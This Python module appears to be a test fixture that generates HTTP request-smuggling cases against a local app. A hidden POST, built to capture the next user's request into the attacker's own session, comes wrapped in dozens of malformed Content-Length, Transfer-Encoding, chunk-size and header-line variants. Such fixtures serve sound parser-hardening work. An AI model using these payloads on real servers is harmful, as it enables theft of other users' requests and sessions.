"""Requests that two readers may take apart differently, which is what smuggling lives on."""

from collections.abc import Iterator
from dataclasses import dataclass, replace

HOST = b"127.0.0.1"
OTHER_HOST = b"elsewhere.example.org"
ABSORBED = 900
"""How many bytes the hidden request claims as its note: the next person's request, if it can."""
LABEL = b"hidden-0000"
UNREAD, READ = b"POST /api/v1/today/ HTTP/1.1", b"POST /accounts/login/ HTTP/1.1"
"""Requests that the site answers with 405, without reading their bodies, and with 403, after it."""


@dataclass(frozen=True)
class Trick:
    """One request with another hidden in it.

    Attributes:
        name: what is odd about it.
        head: from the request line to the empty line.
        body: what follows, which may be sent later.
        is_one: whether a careful reader sees one whole request, or refuses it. Otherwise there are
            several, or the one has no end.
    """

    name: str
    head: bytes
    body: bytes
    is_one: bool = True

    def labelled(self, label: str) -> "Trick":
        """Return the trick with a label of the same length on the hidden request."""
        return replace(self, body=self.body.replace(LABEL, label.encode()))


@dataclass(frozen=True)
class Attacker:
    """Writes tricks.

    Attributes:
        token: of a session of the attacker's own, in whose diary stolen requests would end.
    """

    token: str

    def hidden(self) -> bytes:
        """Return a request that takes what comes behind it as the note of a capture."""
        form = (
            b'--x\r\nContent-Disposition: form-data; name="mood"\r\n\r\n3\r\n'
            b'--x\r\nContent-Disposition: form-data; name="note"\r\n\r\n' + LABEL + b" "
        )
        return (
            b"POST /api/v1/captures/ HTTP/1.1\r\n"
            + self.headers(
                b"User-Agent: " + LABEL,
                b"X-Forwarded-Proto: https",
                b"Content-Type: multipart/form-data; boundary=x",
                b"Content-Length: %d" % (len(form) + ABSORBED),
            )
            + form
        )

    def headers(self, *lines: bytes, host: bytes = HOST) -> bytes:
        """Return lines of a head, with the token and the empty line."""
        return b"\r\n".join(
            (b"Host: " + host, b"X-Session-Token: " + self.token.encode(), *lines, b"", b"")
        )

    def head(self, *lines: bytes, start: bytes = UNREAD) -> bytes:
        """Return the head of a request."""
        return (
            start
            + b"\r\n"
            + self.headers(b"User-Agent: attacker", b"X-Forwarded-Proto: https", *lines)
        )

    def tricks(self) -> Iterator[Trick]:
        """Yield every trick."""
        yield from self.plain()
        yield from self.lengths()
        yield from self.codings()
        yield from self.chunks()
        yield from self.lines()
        yield from self.targets()

    def plain(self) -> Iterator[Trick]:
        """Yield what is not odd at all."""
        hidden = self.hidden()
        yield Trick("nothing odd", self.head(b"Content-Length: %d" % len(hidden)), hidden)
        yield Trick(
            "two requests at once",
            self.head(b"Content-Length: 0"),
            b"GET /healthz HTTP/1.1\r\n" + self.headers(b"X-Forwarded-Proto: https"),
            is_one=False,
        )

    def lengths(self) -> Iterator[Trick]:
        """Yield odd lengths."""
        hidden = self.hidden()
        size = len(hidden)
        for name, values in {
            "length of 16 digits, zeros before it": (b"%016d" % size,),
            "length of 400 digits, zeros before it": (b"%0400d" % size,),
            "length beyond 64 bits": (b"%d" % (2**64 + size),),
            "length with a plus": (b"+%d" % size,),
            "length below zero": (b"-%d" % size,),
            "length in hexadecimal": (b"0x%x" % size,),
            "length with an underscore": (b"%d_%d" % divmod(size, 10),),
            "length with spaces": (b" \t%d \t" % size,),
            "length with a vertical tab": (b"\x0b%d" % size,),
            "length in other digits": (
                b"".join(b"\xd9" + bytes([0xA0 + int(digit)]) for digit in str(size)),
            ),
            "no length": (b"",),
            "two equal lengths": (b"%d" % size,) * 2,
            "two lengths, shorter first": (b"0", b"%d" % size),
            "two lengths, longer first": (b"%d" % size, b"0"),
            "a list of equal lengths": (b"%d, %d" % (size, size),),
            "a list of lengths": (b"0, %d" % size,),
        }.items():
            head = self.head(*(b"Content-Length: " + value for value in values))
            yield Trick(name, head, hidden, is_one="beyond" not in name)
        length = b"Content-Length: %d" % size
        yield Trick(
            "length for this hop only", self.head(length, b"Connection: content-length"), hidden
        )
        yield Trick(
            "length in HTTP/1.0", self.head(length, start=b"POST /api/v1/today/ HTTP/1.0"), hidden
        )
        yield Trick(
            "GET with a body", self.head(length, start=b"GET /api/v1/today/ HTTP/1.1"), hidden
        )
        yield Trick(
            "HEAD with a body", self.head(length, start=b"HEAD /api/v1/today/ HTTP/1.1"), hidden
        )
        yield Trick("expects to go on", self.head(length, b"Expect: 100-continue"), hidden)
        yield Trick(
            "expects something else", self.head(length, b"Expect: 100-continue, more"), hidden
        )

    def codings(self) -> Iterator[Trick]:
        """Yield a length together with odd codings; each reader may believe either."""
        hidden = self.hidden()
        ends_early = b"0\r\n\r\n" + hidden
        size_line = b"%x\r\n" % len(hidden)
        as_chunk = size_line + hidden + b"\r\n0\r\n\r\n"
        chunked = b"Transfer-Encoding: chunked"
        for name, lines in {
            "chunked": (chunked,),
            "Chunked": (b"Transfer-Encoding: Chunked",),
            "tab before chunked": (b"Transfer-Encoding:\tchunked",),
            "space behind chunked": (b"Transfer-Encoding: chunked ",),
            "vertical tab before chunked": (b"Transfer-Encoding: \x0bchunked",),
            "xchunked": (b"Transfer-Encoding: xchunked",),
            "quoted chunked": (b'Transfer-Encoding: "chunked"',),
            "chunked, identity": (b"Transfer-Encoding: chunked, identity",),
            "identity, chunked": (b"Transfer-Encoding: identity, chunked",),
            "gzip, chunked": (b"Transfer-Encoding: gzip, chunked",),
            "chunked twice": (chunked, chunked),
            "chunked, then identity": (chunked, b"Transfer-Encoding: identity"),
            "space before the colon": (b"Transfer-Encoding : chunked",),
            "underscore for the hyphen": (b"Transfer_Encoding: chunked",),
            "folded": (b"Transfer-Encoding:\r\n chunked",),
            "behind a bare LF": (b"X-Odd: 1\n" + chunked,),
            "behind a bare CR": (b"X-Odd: 1\r" + chunked,),
            "for this hop only": (chunked, b"Connection: transfer-encoding"),
        }.items():
            yield Trick(
                f"length and coding: {name}; the chunks end first",
                self.head(b"Content-Length: %d" % len(ends_early), *lines),
                ends_early,
            )
            yield Trick(
                f"length and coding: {name}; the length ends first",
                self.head(b"Content-Length: %d" % len(size_line), *lines),
                as_chunk,
                is_one="underscore" not in name,
            )
        yield Trick(
            "coding in HTTP/1.0",
            self.head(chunked, start=b"POST /api/v1/today/ HTTP/1.0"),
            as_chunk,
        )
        yield Trick("coding unknown", self.head(b"Transfer-Encoding: xchunked"), as_chunk)

    def chunks(self) -> Iterator[Trick]:
        """Yield odd chunks."""
        hidden = self.hidden()
        head = self.head(
            b"Transfer-Encoding: chunked",
            b"Content-Type: application/x-www-form-urlencoded",
            start=READ,
        )
        coding = b"Transfer-Encoding: chunked"
        size, last = len(hidden), b"0\r\n\r\n"
        whole = hidden + b"\r\n" + last
        for name, body, is_one in (
            ("is no number", b"g\r\n" + whole, True),
            ("is empty", b"\r\n" + whole, True),
            ("is below zero", b"-%x\r\n" % size + whole, True),
            ("has a plus", b"+%x\r\n" % size + whole, True),
            ("has a prefix", b"0x%x\r\n" % size + whole, True),
            ("has an underscore", b"0_%x\r\n" % size + whole, True),
            ("has a space before it", b" %x\r\n" % size + whole, True),
            ("has a space behind it", b"%x \r\n" % size + whole, True),
            ("has zeros before it", b"%040x\r\n" % size + whole, True),
            ("is beyond 64 bits", b"1%016x\r\n" % size + whole, False),
            ("is zero beyond 64 bits", b"1%016x\r\n\r\n" % 0 + hidden, False),
            ("has an extension", b"%x;a=b\r\n" % size + whole, True),
            ("has a quoted extension", b'%x;a="\\"b"\r\n' % size + whole, True),
            ("has an extension with a bare LF", b"%x;a\nb\r\n" % size + whole, True),
            ("has an extension with a bare CR", b"%x;a\rb\r\n" % size + whole, True),
            ("has an endless extension", b"%x;" % size + b"a" * 20_000 + b"\r\n" + whole, True),
            ("ends with a bare LF", b"%x\n" % size + whole, True),
            ("ends with a bare CR", b"%x\r" % size + whole, True),
            ("is too small", b"%x\r\n" % (size - 9) + whole, True),
            ("is too large", b"%x\r\n" % (size + 9) + whole, False),
        ):  # fmt: skip
            yield Trick(f"size of a chunk {name}", head, body, is_one)
        chunk = b"%x\r\n" % size + hidden
        for name, body, is_one in (
            ("no end of line behind the data", chunk + last, True),
            ("a bare LF behind the data", chunk + b"\n" + last, True),
            ("two bytes behind the data", chunk + b"XX" + last, True),
            ("no last line", chunk + b"\r\n0\r\n", False),
            ("no last chunk", chunk + b"\r\n", False),
            ("a bare LF behind the last chunk", chunk + b"\r\n0\n\n", False),
            ("a trailer with a length", chunk + b"\r\n0\r\nContent-Length: 9\r\n\r\n", True),
            ("a trailer with a coding", chunk + b"\r\n0\r\n" + coding + b"\r\n\r\n", True),
            ("a trailer with a bare LF", chunk + b"\r\n0\r\nX-Odd: 1\n\r\n\r\n", True),
            ("a trailer without a colon", chunk + b"\r\n0\r\n" + hidden, True),
            ("a request behind the last chunk", last + hidden, False),
        ):  # fmt: skip
            yield Trick(f"chunks with {name}", head, body, is_one)

    def lines(self) -> Iterator[Trick]:
        """Yield lines of a head that hide a length, or are not even lines."""
        hidden = self.hidden()
        length = b"Content-Length: %d" % len(hidden)
        for name, lines in {
            "length behind a bare LF": (b"X-Odd: 1\n" + length,),
            "length behind a bare CR": (b"X-Odd: 1\r" + length,),
            "length behind a folded line": (b"X-Odd: 1\r\n " + length,),
            "length on a folded line": (b"Content-Length:\r\n %d" % len(hidden),),
            "length with a space before the colon": (length.replace(b":", b" :"),),
            "length with a tab before the colon": (length.replace(b":", b"\t:"),),
            "length with a NUL in its name": (length.replace(b":", b"\0:"),),
            "length with a space in its name": (length.replace(b"-", b" "),),
            "length with an underscore in its name": (length.replace(b"-", b"_"),),
            "length with a NUL in its value": (length + b"\0",),
            "length without a colon": (length.replace(b":", b""),),
            "a name of nothing": (b": 1", length),
            "a name of other letters": (b"X-\xc3\xa4: 1", length),
            "a name with a NUL": (b"X-\0: 1", length),
            "a name with a space": (b"X Odd: 1", length),
            "a value with a NUL": (b"X-Odd: a\0b", length),
        }.items():
            yield Trick(name, self.head(*lines), hidden, is_one="underscore" not in name)
        head = self.head(length)
        first, _, others = head.partition(b"\r\n")
        yield Trick("bare LF everywhere", head.replace(b"\r\n", b"\n"), hidden)
        yield Trick("bare LF before the body", head[:-4] + b"\r\n\n", hidden)
        yield Trick("a space before the first line", first + b"\r\n " + others, hidden)
        yield Trick("empty lines before the request", b"\r\n\r\n" + head, hidden)
        yield Trick(
            "a head of 100,000 bytes", self.head(b"X-Odd: " + b"a" * 100_000, length), hidden
        )

    def targets(self) -> Iterator[Trick]:
        """Yield odd request lines and hosts."""
        hidden = self.hidden()
        length = b"Content-Length: %d" % len(hidden)
        host = b"Host: " + OTHER_HOST
        for name, start in {
            "another host in the target": b"POST http://" + OTHER_HOST + b"/api/v1/today/ HTTP/1.1",
            "a target with a space": b"POST /api/v1/today/ HTTP/1.1 HTTP/1.1",
            "a target with a bare LF": b"POST /api/v1/today/\nX-Odd: 1 HTTP/1.1",
            "a target with a NUL": b"POST /api/v1/today/\0 HTTP/1.1",
            "a method in small letters": b"post /api/v1/today/ HTTP/1.1",
            "a version that is not": b"POST /api/v1/today/ HTTP/1.9",
            "no version": b"POST /api/v1/today/",
        }.items():
            yield Trick(name, self.head(length, start=start), hidden)
        yield Trick("two hosts", self.head(length, host), hidden)
        yield Trick(
            "another host behind a bare LF", self.head(length, b"X-Odd: 1\n" + host), hidden
        )
        yield Trick("another host, folded", self.head(length, b"X-Odd: 1\r\n " + host), hidden)
